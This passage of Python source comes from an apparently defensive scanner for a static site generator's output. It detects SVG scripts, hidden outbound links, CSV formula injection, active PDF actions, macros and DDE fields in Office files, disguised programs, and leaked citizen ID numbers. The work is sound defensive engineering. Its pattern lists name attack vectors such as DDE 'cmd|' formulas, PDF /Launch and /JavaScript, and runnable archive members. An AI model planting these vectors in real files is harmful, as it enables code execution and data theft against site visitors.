        if name in ("script", "foreignobject"):
            findings.append(Finding(rel, line, f"SVG file with <{name}>"))
        for attr, value in el.attrib.items():
            local = lxml.etree.QName(attr).localname.lower()
            if local.startswith("on"):
                findings.append(Finding(rel, line, f"SVG file with event handler {local}", value))
            elif local == "href" and not value.strip().startswith("#"):
                findings.append(Finding(rel, line, f"SVG file linking to {_shorten(value)}", value))
    return findings


def scan_feed(data: bytes, rel: str, domain: str = DOMAIN, held: frozenset[str] = frozenset()) -> list[Finding]:
    """A sitemap or RSS feed lists the site's own pages: an address on another host sends crawlers
    and subscribers elsewhere (a base_url pointing away, for example); an entry for an item dated
    after now announces it before its time."""
    parser = lxml.etree.XMLParser(recover=True, resolve_entities=False, no_network=True)
    try:
        root = lxml.etree.fromstring(data, parser)
    except lxml.etree.XMLSyntaxError:
        return []
    findings = []
    for el in root.iter() if root is not None else ():
        if not isinstance(el.tag, str):
            continue
        name = lxml.etree.QName(el).localname
        targets = [el.text or ""] if name in ("loc", "link", "guid") else []
        targets += [el.get("url", "")] if name in ("source", "enclosure") else []
        for target in filter(None, (t.strip() for t in targets)):
            host = _host(target, f"https://{domain}/")
            if host is not None and host != domain.lower():
                findings.append(Finding(rel, el.sourceline or 0, f"<{name}> on another host {host}: {target}", target))
            elif host is not None and (path := _own_path(target, f"https://{domain}/")) in held:
                findings.append(Finding(rel, el.sourceline or 0, f"<{name}> for an item dated after now", path))
    return findings


def _host(value: str, base: str) -> str | None:
    try:
        return URL(value, base).hostname.lower()
    except ValueError:
        return None


def _own_path(value: str, base: str) -> str | None:
    """The path of a URL on the site, relative to its root ("gzdt/a.html")."""
    try:
        url = URL(value, base)
    except ValueError:
        return None
    return url.pathname.lstrip("/")


# ---------------------------------------------------------------- XML, CSV, scripts, the terminal


def scan_xml(data: bytes, rel: str) -> list[Finding]:
    """Every XML output parsed as XML readers parse it, strictly: one control character makes a feed
    unreadable to every subscriber."""
    parser = lxml.etree.XMLParser(resolve_entities=False, no_network=True)
    try:
        lxml.etree.fromstring(data, parser)
    except lxml.etree.XMLSyntaxError as exc:
        reason = re.sub(r",? line \d+, column \d+.*$", "", " ".join(str(exc.msg or exc).split()))
        return [Finding(rel, exc.lineno or 0, f"XML that does not parse ({reason}): feed readers reject it")]
    return []


# Cells a spreadsheet keeps as they are: a plain number, or dashes alone (how a table says 无).
INERT_CELL = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|-+")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def scan_csv(data: bytes, rel: str, expect: Expect | None = None) -> list[Finding]:
    """A data download as a spreadsheet opens it (OWASP CSV injection): a cell starting with = + - @ tab
    or CR that is not a plain number (or a dash) is evaluated; a cell that breaks its row shows as a row of
    its own."""
    expect = expect or Expect()
    try:
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig", "replace"), newline="")))
    except csv.Error as exc:
        return [Finding(rel, 0, f"a CSV file that Python's csv module cannot read ({exc})")]
    findings = []
    for number, row in enumerate(rows, start=1):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not INERT_CELL.fullmatch(cell):
                findings.append(
                    Finding(rel, number, f"a CSV cell a spreadsheet evaluates: {_shorten(repr(cell))}", cell)
                )
    most = expect.csv_rows.get(rel)
    if most is not None and len(rows) > most:
        findings.append(Finding(rel, 0, f"a CSV of {len(rows)} rows from a source of {most}: a cell broke its row"))
    cells = {cell for row in rows for cell in row}
    for kept in expect.csv_numbers.get(rel, ()):
        if kept not in cells:
            findings.append(Finding(rel, 0, f"the source's number {kept} is no longer a plain number in the CSV", kept))
    return findings


# A script that sends the visitor elsewhere or writes markup into the page as it loads (innerHTML is left
# out: the default theme builds its leaving prompt with it).
NAVIGATES = re.compile(
    r"\blocation\s*(?:\.\s*(?:replace|assign)\s*\(|(?:\.\s*href\s*)?=(?!=))|\bwindow\s*\.\s*open\s*\("
    r"|\bdocument\s*\.\s*write(?:ln)?\s*\(|\.\s*insertAdjacentHTML\s*\("
)


def scan_script(data: bytes, rel: str) -> list[Finding]:
    text = data.decode("utf-8", "replace")
    return [
        Finding(rel, text.count("\n", 0, m.start()) + 1, f"a script that sends visitors away or writes markup: {m[0]}")
        for m in NAVIGATES.finditer(text)
    ]


# What a terminal or a CI log interprets: C0 controls but tab and newline, DEL and C1 (U+009B is CSI).
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def terminal_problems(printed: str) -> list[str]:
    """The lines of gsgen's printed output that hold raw control characters (ESC, CR, BEL, …)."""
    return [
        f"raw {', '.join(sorted({f'U+{ord(c):04X}' for c in TERMINAL_CONTROLS.findall(line)}))} in: {line!r}"
        for line in printed.split("\n")
        if TERMINAL_CONTROLS.search(line)
    ]


# ---------------------------------------------------------------- hidden links

SHRINKING = {"small", "sub", "sup"}
TINY_NESTING = 6  # each makes text smaller (CSS `smaller`, about 1/1.2): 16 px becomes 5.4 px after six
HIDING_CONTAINERS = {"template", "noscript", "rp"}  # never shown (rp) or not with scripting on
INVISIBLE_CHARACTERS = {"Cc", "Cf", "Zs", "Zl", "Zp"}


class Stylesheets:
    """The site's own stylesheets, each read once, as hiding rules: (selector, what hides)."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self._rules: dict[str, tuple[tuple[str, str], ...]] = {}

    def rules(self, rel: str) -> tuple[tuple[str, str], ...]:
        if rel not in self._rules:
            path = self.folder / rel
            text = path.read_text("utf-8", "replace") if ".." not in rel and path.is_file() else ""
            self._rules[rel] = hiding_rules(text)
        return self._rules[rel]


@functools.lru_cache(maxsize=256)
def hiding_rules(css: str) -> tuple[tuple[str, str], ...]:
    """The selectors of a stylesheet whose declarations hide what they match (outside print media);
    kept per text: every page of a build links the same stylesheet and has the same <style>."""
    found: list[tuple[str, str]] = []
    for rule in tinycss2.parse_stylesheet(css, skip_comments=True, skip_whitespace=True):
        if isinstance(rule, tinycss2.ast.AtRule) and rule.lower_at_keyword == "media" and rule.content:
            if "print" not in tinycss2.serialize(rule.prelude).lower():
                found += hiding_rules(tinycss2.serialize(rule.content))
        elif isinstance(rule, tinycss2.ast.QualifiedRule):
            why = sheet_hides(tinycss2.serialize(rule.content))
            if why:
                found += [(s.strip(), why) for s in tinycss2.serialize(rule.prelude).split(",") if s.strip()]
    return tuple(found)


def sheet_hides(declarations: str) -> str:
    """Why a rule's declarations hide an element ('' if they do not): what hides in an inline style,
    or an offset that moves it a thousand pixels off screen."""
    hides = [p for p in style_problems(declarations) if p.startswith(("hides", "moves off screen"))]
    nodes = tinycss2.parse_blocks_contents(declarations, skip_comments=True, skip_whitespace=True)
    for d in nodes:
        offset = isinstance(d, tinycss2.ast.Declaration) and (
            d.lower_name in OFFSETS or d.lower_name.startswith("inset")
        )
        if offset and d.lower_name != "z-index" and any(abs(n) >= 1000 for n in _numbers(d.value)):
            hides.append(f"moves off screen ({d.lower_name})")
    return "; ".join(hides)


_XPATHS: dict[str, lxml.etree.XPath | None] = {}


def _selector(selector: str) -> lxml.etree.XPath | None:
    """A CSS selector as cssselect translates it; None for what it cannot match on a static page
    (:hover, ::before, …)."""
    if selector not in _XPATHS:
        try:
            _XPATHS[selector] = lxml.etree.XPath(HTMLTranslator().css_to_xpath(selector))
        except (SelectorError, lxml.etree.XPathError):
            _XPATHS[selector] = None
    return _XPATHS[selector]


def _page_rules(root: Any, base: str, domain: str, sheets: Stylesheets | None) -> list[tuple[str, str]]:
    rules: list[tuple[str, str]] = []
    for link in root.iter("link"):
        href = link.get("href") or ""
        stylesheet = "stylesheet" in (link.get("rel") or "").lower().split()
        if sheets is not None and stylesheet and href and _host(href, base) == domain.lower():
            rules += sheets.rules(_own_path(href, base) or "")
    for style in root.iter("style"):
        rules += hiding_rules(style.text_content())
    return rules


def _outside_host(href: str, base: str, domain: str) -> str | None:
    """The host of a link that leaves the government web."""
    try:
        url = URL(href, base)
    except ValueError:
        return None
    host = url.hostname.lower()
    if url.protocol not in ("http:", "https:") or host == domain.lower() or is_government_host(host):
        return None
    return host


def hidden_links(
    root: Any, base: str, domain: str, sheets: Stylesheets | None = None
) -> Iterator[tuple[int, str, str]]:
    """(line, message, href) of each link leaving the government web that a reader does not see (暗链)."""
    hidden_by: dict[Any, str] = {}
    for selector, why in _page_rules(root, base, domain, sheets):
        xpath = _selector(selector)
        for el in xpath(root) if xpath is not None else ():
            hidden_by.setdefault(el, f"{_shorten(selector, 60)} {{{why}}}")
    for a in root.iter("a", "area"):
        host = _outside_host(a.get("href") or "", base, domain)
        why = _why_unseen(a, hidden_by) if host else ""
        if why:
            yield a.sourceline or 0, f"a link to {host} {why}", a.get("href", "")


def _why_unseen(a: Any, hidden_by: dict[Any, str]) -> str:
    if not visible_text(a) and not _visible_picture(a):
        return "with no visible text or picture"
    shrink = 0
    for el in (a, *a.iterancestors()):
        tag = el.tag.lower() if isinstance(el.tag, str) else ""
        if el in hidden_by:
            return f"hidden by the stylesheet rule {hidden_by[el]}"
        if tag in HIDING_CONTAINERS:
            return f"inside <{tag}>"
        if "hidden" in el.attrib:
            return f"inside <{tag} hidden>"
        if tag == "details" and el is not a and "open" not in el.attrib:
            summary = next((c for c in el if isinstance(c.tag, str) and c.tag.lower() == "summary"), None)
            in_summary = summary is not None and (summary is a or summary in a.iterancestors())
            if summary is not None and not in_summary and not visible_text(summary):
                return "inside <details> with an empty summary"
        shrink += tag in SHRINKING
    if shrink >= TINY_NESTING:
        return f"in text too small to read ({shrink} nested <small>/<sub>/<sup>)"
    return ""


def visible_text(el: Any) -> str:
    """The characters of an element's text that show: no spaces, controls, zero-width or format characters."""
    return "".join(c for c in el.text_content() if unicodedata.category(c) not in INVISIBLE_CHARACTERS)


def _visible_picture(a: Any) -> bool:
    """A picture with alt text (what a screen reader reads) in a box larger than 1×1."""
    for img in a.iter("img"):
        sizes = [_pixels(img.get(name)) for name in ("width", "height")]
        tiny = any(s is not None and s <= 1 for s in sizes)
        if (img.get("alt") or "").strip() and not tiny and not style_problems(img.get("style") or ""):
            return True
    return False


def _pixels(value: str | None) -> float | None:
    m = re.match(r"\s*(\d+(\.\d*)?)", value or "")
    return float(m[1]) if m else None


def links_to(root: Any, base: str, domain: str, held: frozenset[str]) -> Iterator[tuple[int, str]]:
    """(line, path) of each link to one of the `held` pages."""
    if not held:
        return
    for el in root.iter("a", "link", "area"):
        href = el.get("href")
        if href and _host(href, base) == domain.lower() and (path := _own_path(href, base)) in held:
            yield el.sourceline or 0, path


# ---------------------------------------------------------------- published files: active content, magic bytes

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LNK_MAGIC = b"L\x00\x00\x00\x01\x14\x02\x00"
PROGRAM_MAGIC = (b"MZ", b"\x7fELF", b"#!", LNK_MAGIC, b"\xca\xfe\xba\xbe", b"\xcf\xfa\xed\xfe")


def _is_zip(d: bytes) -> bool:
    return d[:4] in (b"PK\x03\x04", b"PK\x05\x06")


# What each published extension's bytes must start with (or be).
MAGIC: dict[str, Callable[[bytes], bool]] = {
    "jpg": lambda d: d.startswith(b"\xff\xd8\xff"),
    "jpeg": lambda d: d.startswith(b"\xff\xd8\xff"),
    "png": lambda d: d.startswith(b"\x89PNG\r\n\x1a\n"),
    "gif": lambda d: d[:6] in (b"GIF87a", b"GIF89a"),
    "webp": lambda d: d[:4] == b"RIFF" and d[8:12] == b"WEBP",
    "bmp": lambda d: d[:2] == b"BM",
    "ico": lambda d: d[:4] == b"\x00\x00\x01\x00",
    "avif": lambda d: d[4:8] == b"ftyp",
    "pdf": lambda d: b"%PDF-" in d[:1024],
    "ofd": _is_zip,
    "zip": _is_zip,
    "docx": _is_zip,
    "xlsx": _is_zip,
    "pptx": _is_zip,
    "odt": _is_zip,
    "ods": _is_zip,
    "odp": _is_zip,
    "doc": lambda d: d.startswith(OLE_MAGIC),
    "xls": lambda d: d.startswith(OLE_MAGIC),
    "ppt": lambda d: d.startswith(OLE_MAGIC),
    "wps": lambda d: d.startswith(OLE_MAGIC) or _is_zip(d),
    "et": lambda d: d.startswith(OLE_MAGIC) or _is_zip(d),
    "dps": lambda d: d.startswith(OLE_MAGIC) or _is_zip(d),
    "rtf": lambda d: d.startswith(b"{\\rtf"),
    "rar": lambda d: d.startswith(b"Rar!\x1a\x07"),
    "7z": lambda d: d.startswith(b"7z\xbc\xaf\x27\x1c"),
    "mp4": lambda d: d[4:8] == b"ftyp",
    "m4a": lambda d: d[4:8] == b"ftyp",
    "webm": lambda d: d.startswith(b"\x1a\x45\xdf\xa3"),
    "ogg": lambda d: d.startswith(b"OggS"),
    "wav": lambda d: d[:4] == b"RIFF" and d[8:12] == b"WAVE",
    "mp3": lambda d: d.startswith(b"ID3") or d[:2] in (b"\xff\xfb", b"\xff\xf3", b"\xff\xf2"),
    "json": lambda d: _parses_as_json(d),
}
MARKUP = re.compile(rb"<\s*(!doctype\s+html|html|head|body|script|svg|iframe|object|embed|meta\s|a\s|img\s)", re.I)
# Members of an archive that run when opened (by name): programs, scripts, shortcuts, macro documents, pages.
RUNNABLE = {
    *("exe", "com", "bat", "cmd", "pif", "scr", "msi", "msp", "dll", "cpl", "sys", "drv", "ocx"),
    *("js", "jse", "vbs", "vbe", "wsf", "wsh", "ps1", "psm1", "hta", "lnk", "url", "jar", "reg", "chm", "sh"),
    *("apk", "html", "htm", "xhtml", "mht", "svg", "docm", "dotm", "xlsm", "xltm", "xlam", "pptm", "potm", "ppam"),
}


def _parses_as_json(data: bytes) -> bool:
    try:
        json.loads(data.decode("utf-8-sig"))
    except ValueError:
        return False
    return True


def _extension(name: str) -> str:
    return posixpath.splitext(name.replace("\\", "/"))[1].lower().lstrip(".")


def file_problems(data: bytes, name: str, depth: int = 0) -> list[str]:
    """What in a published file (or an archive member) runs, calls out, or is not what its name says."""
    ext = _extension(name)
    problems: list[str] = []
    head = data[:1024].lstrip(b"\xef\xbb\xbf \t\r\n")
    if ext not in ("svg", "xml", "html", "htm") and head[:1] == b"<" and MARKUP.search(head):
        problems.append(f"HTML/SVG markup in a .{ext} file: a browser that sniffs renders it")
    if ext in MAGIC and not MAGIC[ext](data):
        problems.append(f"a .{ext} file whose bytes are not one (they start {data[:6]!r})")
    if data.startswith(PROGRAM_MAGIC) and ext not in RUNNABLE:
        problems.append(f"a program (by its bytes) named .{ext}")
    if b"%PDF-" in data[:1024]:
        problems += pdf_problems(data)
    elif _is_zip(data):
        problems += zip_problems(data, depth)
    if depth == 0:  # archives are searched whole by personal_problems itself
        problems += [f"a citizen ID number in {where}" for where in personal_problems(data, name)]
    return list(dict.fromkeys(problems))


PDF_ACTIVE = re.compile(
    rb"/(JavaScript|JS|Launch|EmbeddedFiles?|XFA|RichMedia|AA|ImportData|SubmitForm|GoToE)(?![^\s()<>\[\]{}/%])"
)


def _pdf_text(data: bytes) -> bytes:
    """A PDF's bytes with every Flate stream inflated and #xx escapes in names decoded (/J#61vaScript)."""
    parts = [data]
    for m in re.finditer(rb"(?<!end)stream\r?\n", data):
        end = data.find(b"endstream", m.end())
        if end < 0:
            break
        with contextlib.suppress(zlib.error):
            parts.append(zlib.decompressobj().decompress(data[m.end() : end], 20_000_000))
    return re.sub(rb"#([0-9A-Fa-f]{2})", lambda m: bytes([int(m[1], 16)]), b"\n".join(parts))


def pdf_problems(data: bytes) -> list[str]:
    """JavaScript, launch, embedded files, forms that run (XFA), Flash, automatic actions (/AA), and an
    /OpenAction other than going to a page of the document."""
    text = _pdf_text(data)
    problems = [f"PDF with /{m[1].decode()}" for m in PDF_ACTIVE.finditer(text)]
    for m in re.finditer(rb"/OpenAction\s*(<<|\[|(\d+)\s+(\d+)\s+R)", text):
        if m[1] == b"[":
            continue  # a destination: the page it opens at
        if m[1] == b"<<":
            action = text[m.start(1) : m.start(1) + 600]
        else:
            target = re.search(rb"(?<!\d)" + m[2] + rb"\s+" + m[3] + rb"\s+obj(.*?)endobj", text, re.S)
            action = target[1].strip() if target else b""
        kind = re.search(rb"/S\s*/(\w+)", action)
        if kind and kind[1] != b"GoTo" and not action.startswith(b"["):
            uri = re.search(rb"/URI\s*\(([^)]*)\)", action)
            problems.append(
                f"PDF opening with a /{kind[1].decode()} action" + (f" to {uri[1].decode('latin-1')}" if uri else "")
            )
    return list(dict.fromkeys(problems))


def member_name_problems(name: str) -> list[str]:
    problems = []
    if any(unicodedata.category(c) in ("Cc", "Cf") for c in name):
        problems.append(f"a member name with control or bidi characters: {name!r}")
    parts = name.replace("\\", "/").split("/")
    if ".." in parts or name.startswith(("/", "\\")) or re.match(r"[A-Za-z]:", name):
        problems.append(f"a member path leaving the folder it is unpacked into: {name!r}")
    return problems


def zip_problems(data: bytes, depth: int = 0) -> list[str]:
    """An archive's members by name, path and bytes, nested archives opened in turn; OOXML parts too."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
        infos = archive.infolist()
    except (zipfile.BadZipFile, OSError, ValueError):
        return ["a ZIP archive that cannot be read"]
    problems: list[str] = []
    if "[Content_Types].xml" in archive.namelist():
        problems += ooxml_problems(archive)
    for info in infos:
        problems += member_name_problems(info.filename)
        ext = _extension(info.filename)
        if info.is_dir():
            continue
        if ext in RUNNABLE:
            problems.append(f"a .{ext} file in the archive: {info.filename!r}")
        if info.file_size > 50_000_000 or depth >= 3:
            continue
        try:
            body = archive.read(info)
        except (RuntimeError, zipfile.BadZipFile, OSError, ValueError, NotImplementedError):
            problems.append(f"a member that cannot be read (encrypted?): {info.filename!r}")
            continue
        if "[Content_Types].xml" not in archive.namelist() or ext in ("zip", "exe", "pdf"):
            problems += [f"{info.filename!r}: {p}" for p in file_problems(body, info.filename, depth + 1)]
    return list(dict.fromkeys(problems))


XML_READER = lxml.etree.XMLParser(recover=True, resolve_entities=False, no_network=True, huge_tree=False)
FIELD_CODES = re.compile(r"\b(DDEAUTO|DDE|INCLUDEPICTURE|INCLUDETEXT|IMPORT)\b\s*(\S*)", re.I)
CALLING_FORMULA = re.compile(r"\b(WEBSERVICE|FILTERXML|HYPERLINK|CALL|REGISTER(?:\.ID)?|EXEC)\s*\(|\|", re.I)


def ooxml_problems(archive: zipfile.ZipFile) -> list[str]:
    """A Word, Excel or PowerPoint file: macros, embedded or external objects, external relationships
    (remote templates, OLE links; hyperlinks excepted), DDE and remote INCLUDE fields, formulas that
    call out (WEBSERVICE, DDE `cmd|…`, HYPERLINK)."""
    problems: list[str] = []
    for name in archive.namelist():
        low = name.lower()
        if posixpath.basename(low).startswith("vbaproject") or "/activex/" in low:
            problems.append(f"a macro or ActiveX part: {name}")
        elif "/embeddings/" in low or ("/externallinks/" in low and low.endswith(".xml")):
            problems.append(f"an embedded object or external workbook link: {name}")
        if not low.endswith((".xml", ".rels")):
            continue
        root = lxml.etree.fromstring(archive.read(name)[:20_000_000] or b"<x/>", XML_READER)
        if root is None:
            continue
        instructions = []
        for el in root.iter():
            if not isinstance(el.tag, str):
                continue
            local = lxml.etree.QName(el).localname
            if local == "Relationship" and el.get("TargetMode", "").lower() == "external":
                kind = el.get("Type", "").rsplit("/", 1)[-1]
                if kind != "hyperlink":
                    problems.append(f"an external {kind} relationship to {el.get('Target', '')}")
            elif local == "instrText":
                instructions.append(el.text or "")
            elif local == "fldSimple":
                instructions.append(" " + next((v for k, v in el.attrib.items() if k.endswith("instr")), "") + " ")
            elif local == "f" and el.text and CALLING_FORMULA.search(el.text):
                problems.append(f"a formula that calls out: ={_shorten(el.text, 80)}")
        for m in FIELD_CODES.finditer("".join(instructions)):
            code = m[1].upper()
            if code.startswith("DDE") or "://" in m[2] or m[2].strip('"').startswith("\\\\"):
                problems.append(f"a {code} field: {_shorten(m[0], 80)}")
    return problems


# ---------------------------------------------------------------- personal data: citizen ID numbers

ID_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
ID_CHECK = "10X98765432"
ID_CANDIDATE = re.compile(r"(?<![0-9A-Za-z])\d{17}[\dXx](?![0-9A-Za-z])")
FULL_WIDTH_DIGITS = str.maketrans("０１２３４５６７８９Ｘｘ", "0123456789Xx")


def citizen_id(first17: str) -> str:
    """A citizen ID number (GB 11643): 17 digits and their check character."""
    total = sum(int(d) * w for d, w in zip(first17, ID_WEIGHTS, strict=True))
    return first17 + ID_CHECK[total % 11]


def is_citizen_id(text: str) -> bool:
    return bool(re.fullmatch(r"\d{17}[\dXx]", text)) and citizen_id(text[:17]) == text[:17] + text[17].upper()


def id_numbers(text: str) -> list[str]:
    """The valid citizen ID numbers in a text, full-width digits read as digits."""
    return [m[0] for m in ID_CANDIDATE.finditer(text.translate(FULL_WIDTH_DIGITS)) if is_citizen_id(m[0])]


def _texts_of_bytes(data: bytes) -> list[str]:
    """A file's bytes as text as a reader may see them: UTF-8, UTF-16 (NULs dropped), and XML with its
    tags taken out (a number cut across Word runs)."""
    text = data.decode("utf-8", "replace")
    texts = [text, data.replace(b"\x00", b"").decode("latin-1")]
    if "<" in text:
        texts.append(re.sub(r"<[^>]*>", "", text))
    return texts


def _pdf_strings(text: bytes) -> list[str]:
    """A PDF's text (streams inflated) with its hex strings and UTF-16BE strings decoded."""
    found = [text.decode("latin-1"), text.replace(b"\x00", b"").decode("latin-1")]
    for m in re.finditer(rb"<([0-9A-Fa-f\s]{36,})>", text):
        raw = bytes.fromhex(re.sub(rb"\s", b"", m[1]).decode()[: len(m[1]) // 2 * 2])
        found.append(raw.decode("utf-16-be", "replace") if raw.startswith(b"\xfe\xff") else raw.decode("latin-1"))
    return found


def _png_texts(data: bytes) -> list[str]:
    """Every tEXt, zTXt and iTXt chunk of a PNG, decompressed."""
    texts, pos = [], 8
    while pos + 8 <= len(data):
        length, kind = int.from_bytes(data[pos : pos + 4], "big"), data[pos + 4 : pos + 8]
        body = data[pos + 8 : pos + 8 + length]
        pos += 12 + length
        if kind == b"tEXt":
            texts.append(body.decode("latin-1"))
        elif kind == b"zTXt" and b"\0" in body:
            with contextlib.suppress(zlib.error):
                texts.append(zlib.decompress(body.split(b"\0", 1)[1][1:]).decode("latin-1"))
        elif kind == b"iTXt" and b"\0" in body:
            _keyword, rest = body.split(b"\0", 1)
            compressed, text = rest[:1] == b"\x01", rest[2:].split(b"\0", 2)[-1]
            with contextlib.suppress(zlib.error):
                texts.append((zlib.decompress(text) if compressed else text).decode("utf-8", "replace"))
    return texts


def _jpeg_segments(data: bytes) -> list[bytes]:
    """The APPn and COM segments of a JPEG, up to its image data."""
    segments, pos = [], 2
    while pos + 4 <= len(data) and data[pos] == 0xFF:
        marker, length = data[pos + 1], int.from_bytes(data[pos + 2 : pos + 4], "big")
        if marker == 0xDA:
            break
        if 0xE0 <= marker <= 0xEF or marker == 0xFE:
            segments.append(data[pos + 4 : pos + 2 + length])
        pos += 2 + length
    return segments


def personal_problems(data: bytes, name: str, depth: int = 0) -> list[str]:
    """Where a published file holds a valid citizen ID number: every part and member name of an
    archive (OOXML, ODF, ZIP), a PDF's strings and inflated streams, a PNG's text chunks, a JPEG's
    APP segments, any other file's text."""
    where: list[str] = []
    if _is_zip(data):
        try:
            archive = zipfile.ZipFile(io.BytesIO(data))
            infos = archive.infolist()
        except (zipfile.BadZipFile, OSError, ValueError):
            return []
        for info in infos:
            if id_numbers(info.filename):
                where.append(f"the member name {info.filename!r}")
            if info.is_dir() or info.file_size > 50_000_000 or depth >= 3:
                continue
            with contextlib.suppress(RuntimeError, zipfile.BadZipFile, OSError, ValueError, NotImplementedError):
                body = archive.read(info)
                where += [f"{info.filename!r}: {w}" for w in personal_problems(body, info.filename, depth + 1)]
        return where
    if b"%PDF-" in data[:1024]:
        texts = _pdf_strings(_pdf_text(data))
    elif data.startswith(b"\x89PNG\r\n\x1a\n"):
        return ["a PNG text chunk"] if any(id_numbers(t) for t in _png_texts(data)) else []
    elif data.startswith(b"\xff\xd8\xff"):
        segments = _jpeg_segments(data)
        return ["a JPEG APP or COM segment"] if any(id_numbers(t) for s in segments for t in _texts_of_bytes(s)) else []
    else:
        texts = _texts_of_bytes(data)
        if data.startswith(b"{\\rtf"):  # \'hh escapes as the bytes they stand for
            texts.append(re.sub(r"\\'([0-9a-fA-F]{2})", lambda m: chr(int(m[1], 16)), texts[0]))
    return ["its text"] if any(id_numbers(t) for t in texts) else []


# ---------------------------------------------------------------- inline styles

HIDING_IDENTS = {"display": {"none"}, "visibility": {"hidden", "collapse"}, "content-visibility": {"hidden"}}
POSITIONS = {"fixed", "absolute", "sticky"}
OFFSETS = {"top", "right", "bottom", "left", "inset", "z-index"}
TRANSFORMS = {"transform", "translate", "scale", "rotate"}
MARGINS = re.compile(r"^margin(-(top|right|bottom|left|inline|block)(-(start|end))?)?$")
SIZES = {"width", "height", "min-width", "min-height", "block-size", "inline-size"}
MAX_SIZES = {"max-width", "max-height", "max-block-size", "max-inline-size"}
LOADING_FUNCTIONS = {"url", "image-set", "-webkit-image-set", "image", "cross-fade", "element", "src", "expression"}
# Below these a text cannot be read: font sizes by unit.
TINY_FONT = {"px": 6, "pt": 5, "em": 0.4, "rem": 0.4, "ex": 0.8, "ch": 0.8, "vw": 0.5, "vh": 0.5}
TINY_FONT_PERCENT = 40


def style_problems(style: str) -> list[str]:
    """Why an inline style hides, positions or loads, read as a CSS parser reads it: escapes such as
    d\\69splay decoded, comments dropped, !important and case ignored."""
    problems: list[str] = []
    nodes = tinycss2.parse_blocks_contents(style, skip_comments=True, skip_whitespace=True)
    declarations = [d for d in nodes if isinstance(d, tinycss2.ast.Declaration)]
    overflow_hidden = any(
        d.lower_name in ("overflow", "overflow-x", "overflow-y") and _idents(d.value) & {"hidden", "clip"}
        for d in declarations
    )
    for d in declarations:
        name = d.lower_name
        values = [t for t in d.value if t.type not in ("whitespace", "comment")]
        idents = _idents(values)
        if name in HIDING_IDENTS and idents & HIDING_IDENTS[name]:
            problems.append(f"hides ({name}: {' '.join(sorted(idents))})")
        elif name == "position" and idents & POSITIONS:
            problems.append(f"positions ({name}: {' '.join(sorted(idents))})")
        elif name == "opacity" and _opacity(values) < 0.1:
            problems.append("hides (opacity near 0)")
        elif name == "font-size" and _tiny_font(values):
            problems.append("hides (tiny font-size)")
        elif name in SIZES and overflow_hidden and _tiny_length(values):
            problems.append(f"hides ({name} 0 or 1px with overflow hidden)")
        elif name in MAX_SIZES and _tiny_length(values):
            problems.append(f"hides ({name} 0)")
        elif name == "clip" and idents != {"auto"}:
            problems.append("hides (clip)")
        elif name == "clip-path" and idents != {"none"}:
            problems.append("hides (clip-path)")
        elif name == "text-indent" and any(n < 0 or n >= 1000 for n in _numbers(values)):
            problems.append("hides (text-indent off screen)")
        elif MARGINS.match(name) and any(n < 0 for n in _numbers(values)):
            problems.append(f"moves off screen (negative {name})")
        elif name in OFFSETS or name.startswith("inset-"):
            problems.append(f"positions ({name})")
        elif name in TRANSFORMS and idents != {"none"}:
            problems.append(f"transforms ({name})")
        elif name in ("behavior", "-moz-binding"):
            problems.append(f"loads code ({name})")
        if any(_loads(t) for t in values):
            problems.append(f"loads content ({name}: url()/image-set()/expression())")
    return problems


def _idents(values: Iterable[Any]) -> set[str]:
    return {t.lower_value for t in values if t.type == "ident"}


def _numbers(values: Iterable[Any]) -> list[float]:
    return [t.value for t in values if t.type in ("number", "dimension", "percentage")]


def _opacity(values: list[Any]) -> float:
    for t in values:
        if t.type == "number":
            return t.value
        if t.type == "percentage":
            return t.value / 100
    return 1.0


def _tiny_length(values: list[Any]) -> bool:
    """0, or at most 1px: a box nothing shows in."""
    for t in values:
        if t.type in ("number", "percentage") and t.value == 0:
            return True
        if t.type == "dimension" and (t.value == 0 or (t.lower_unit == "px" and t.value <= 1)):
            return True
    return False


def _tiny_font(values: list[Any]) -> bool:
    for t in values:
        if t.type == "number" and t.value == 0:
            return True
        if t.type == "dimension" and t.value < TINY_FONT.get(t.lower_unit, 0):
            return True
        if t.type == "percentage" and t.value < TINY_FONT_PERCENT:
            return True
    return False


def _loads(token: Any) -> bool:
    if token.type == "url":
        return True
    if token.type == "function":
        return token.lower_name in LOADING_FUNCTIONS or any(_loads(a) for a in token.arguments)
    return False


Block = tinycss2.ast.ParenthesesBlock | tinycss2.ast.SquareBracketsBlock | tinycss2.ast.CurlyBracketsBlock


def _walk_css(nodes: Iterable[Any]) -> Iterator[Any]:
    """Every rule, declaration and token, nested blocks and function arguments included."""
    for node in nodes:
        yield node
        if isinstance(node, tinycss2.ast.QualifiedRule | tinycss2.ast.AtRule):
            yield from _walk_css(node.prelude)
            if node.content is not None:
                yield from _walk_css(tinycss2.parse_blocks_contents(node.content, skip_comments=True))
        elif isinstance(node, tinycss2.ast.Declaration):
            yield from _walk_css(node.value)
        elif isinstance(node, tinycss2.ast.FunctionBlock):
            yield from _walk_css(node.arguments)
        elif isinstance(node, Block):
            yield from _walk_css(node.content)


def _css_urls(nodes: Iterable[Any]) -> Iterator[str]:
    for node in nodes:
        if node.type == "url":
            yield node.value
        elif node.type == "function" and node.lower_name in LOADING_FUNCTIONS:
            yield from (a.value for a in node.arguments if a.type == "string")
        elif isinstance(node, tinycss2.ast.AtRule) and node.lower_at_keyword == "import":
            yield from (t.value for t in node.prelude if t.type == "string")


def _shorten(text: str, limit: int = 160) -> str:
    text = " ".join(text.split())
    return text if len(text) <= limit else text[: limit - 1] + "…"


# ================================================================ cases: where each vector goes


@dataclass(frozen=True)
class Case:
    entry: str  # body, front-matter, structured, config, theme
    placement: str  # where in the entry point: md-link, title, apply_url, logo, …
    vector: Vector
    source: str = ""  # the file that carries the vector, relative to the site
    line: int | None = None  # its line there, where the file holds several cases (config, theme)
    page: str | None = None  # the output page that shows this case and no other
    value: str | None = None  # the text that ties an output finding to this case (config)
    text: str = ""  # what to write: an item file, or a line of the theme's template
